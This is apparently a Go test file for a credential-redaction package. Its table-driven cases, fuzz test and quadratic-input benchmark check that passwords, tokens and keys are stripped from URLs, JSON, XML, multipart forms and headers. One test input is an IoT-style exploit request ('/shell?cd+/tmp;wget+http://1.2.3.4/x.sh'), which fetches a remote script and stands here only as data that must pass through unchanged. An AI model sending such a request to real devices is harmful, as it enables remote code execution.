package redact

import (
	"fmt"
	"strings"
	"testing"
)

func TestRedact(t *testing.T) {
	cases := []struct{ in, want string }{
		{"http://bob:hunter2@example.com/x", "http://example.com/x"},
		{"HTTP://bob@example.com:8080/", "HTTP://example.com:8080/"},
		{"http://u:p@ss@example.com/", "http://example.com/"},
		{"example.com:443", "example.com:443"},
		{"admin:hunter2@192.0.2.1:80", "192.0.2.1:80"},                       // Host header
		{"CONNECT admin:hunter2@example.com:443", "CONNECT example.com:443"}, // CONNECT target
		{"/cgi-bin/login.cgi?username=admin&password=admin&lang=en", "/cgi-bin/login.cgi?username=&password=&lang=en"},
		{"/login?pwd=1234", "/login?pwd="},
		{"/?pw=1&u=admin&p=2&pin=3&lang=en", "/?pw=&u=&p=&pin=&lang=en"},
		{"/?p%61ss=1234&%2570wd=x", "/?p%61ss=&%2570wd="},
		{"/?apiKey=abc&x_auth=def&sessionId=9", "/?apiKey=&x_auth=&sessionId="},
		{"luci_username=root&luci_password=hunter2", "luci_username=&luci_password="},
		{`{"user":"admin","Password": "hunter2","x":1}`, `{"user":"","Password": "","x":1}`},
		{`{"\u0070assword":"hunter2","pin":1234,"a":1}`, `{"\u0070assword":"","pin":,"a":1}`},
		{`{"pw":"a\"b","x":"y"}`, `{"pw":"","x":"y"}`},
		{"<login><user>admin</user><ns:Password>hunter2</ns:Password><lang>en</lang></login>",
			"<login><user></user><ns:Password></ns:Password><lang>en</lang></login>"},
		{`<auth pass="hunter2" realm="x"/>`, `<auth pass="" realm="x"/>`},
		{"--b\r\nContent-Disposition: form-data; name=\"passwd\"\r\n\r\nhunter2\r\n--b\r\nContent-Disposition: form-data; name=\"lang\"\r\n\r\nen\r\n--b--",
			"--b\r\nContent-Disposition: form-data; name=\"passwd\"\r\n\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"lang\"\r\n\r\nen\r\n--b--"},
		{"Content-Disposition: form-data; name=\"pass\"; x=1 hunter2", "Content-Disposition: form-data; name=\"pass\""},
		{"GET / HTTP/1.1\r\nX-Auth-Token: abc def\r\nAccept: */*\r\n", "GET / HTTP/1.1\r\nX-Auth-Token: \r\nAccept: */*\r\n"},
		{"/shell?cd+/tmp;wget+http://1.2.3.4/x.sh", "/shell?cd+/tmp;wget+http://1.2.3.4/x.sh"},
		{"/index.html", "/index.html"},
		{"Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)"},
		{"", ""},
	}
	for _, c := range cases {
		if got := Text(c.in); got != c.want {
			t.Errorf("Text(%q)\n = %q\nwant %q", c.in, got, c.want)
		}
	}
}

// The secret FuzzRedact plants; it holds no byte the rule starts from.
const planted = "Xk7vQ2pLw9"

// shapes put a secret in every place the rule covers, by name.
var shapes = []func(name string) string{
	func(n string) string { return "&" + n + "=" + planted + "&" },
	func(n string) string { return "?" + n + "=" + planted + " " },
	func(n string) string { return `,"` + n + `":"` + planted + `",` },
	func(n string) string { return `,"` + n + `": ` + planted + `,` },
	func(n string) string { return "\r\n" + n + ": " + planted + "\r\n" },
	func(n string) string { return "<" + n + ">" + planted + "</" + n + ">" },
	func(n string) string { return "<x " + n + `="` + planted + `"/>` },
	func(n string) string {
		return "\r\n--b\r\nContent-Disposition: form-data; name=\"" + n + "\"\r\n\r\n" + planted + "\r\n--b\r\n"
	},
	func(string) string { return " http://admin:" + planted + "@192.0.2.1/ " },
	func(string) string { return " admin:" + planted + "@example.com:443 " },
}

// names are secret-looking names, plain and encoded.
var names = []string{"password", "PASS", "pw", "pwd", "passwd", "pin", "key", "apiKey", "secret", "token",
	"auth", "userPw", "luci_password", "user[pass]", "p", "u", "p%61ss", "%70w", "%2570wd", `\u0070wd`, "&#112;wd", "X-Auth-Token"}

// FuzzRedact: a secret planted under any secret-looking name, in any shape,
// between any texts, never survives; redaction never panics, never grows the
// text, and a second pass changes nothing.
func FuzzRedact(f *testing.F) {
	f.Add("GET /x", " HTTP/1.1", uint8(0), uint8(0))
	f.Add(`{"a":"`, `"}`, uint8(2), uint8(19))
	f.Add("<r>", "</r>", uint8(5), uint8(3))
	f.Add("\"", "\\", uint8(7), uint8(16))
	f.Fuzz(func(t *testing.T, prefix, suffix string, shape, name uint8) {
		if strings.Contains(prefix+suffix, planted[:4]) {
			t.Skip()
		}
		in := prefix + shapes[int(shape)%len(shapes)](names[int(name)%len(names)]) + suffix
		out := Text(in)
		if strings.Contains(out, planted) {
			t.Fatalf("Text(%q) = %q: the secret survived", in, out)
		}
		if len(out) > len(in) {
			t.Fatalf("Redact grew %q to %q", in, out)
		}
		if again := Text(prefix + suffix); len(again) > len(prefix+suffix) {
			t.Fatalf("Redact grew %q", prefix+suffix)
		}
	})
}

// BenchmarkRedactHostile: texts built to make a careless scanner quadratic.
// ns/op grows linearly with the size (compare the sizes).
func BenchmarkRedactHostile(b *testing.B) {
	for _, unit := range []string{"pw:", "@", "<pw>", `name="pw"`, "p=a&"} {
		for _, n := range []int{1 << 10, 1 << 16} {
			s := strings.Repeat(unit, n/len(unit))
			b.Run(fmt.Sprintf("%s/%d", unit, n), func(b *testing.B) {
				for range b.N {
					Text(s)
				}
			})
		}
	}
}
